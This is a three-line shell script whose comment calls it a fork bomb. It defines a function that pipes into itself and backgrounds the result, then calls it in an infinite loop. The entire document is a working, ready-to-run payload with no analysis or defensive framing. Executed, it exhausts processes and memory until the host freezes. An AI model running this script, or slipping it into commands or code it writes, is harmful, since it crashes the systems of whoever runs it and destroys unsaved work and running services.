# The fork bomb: every process starts two more, for ever.
b() { b | b & }
while :; do b; done
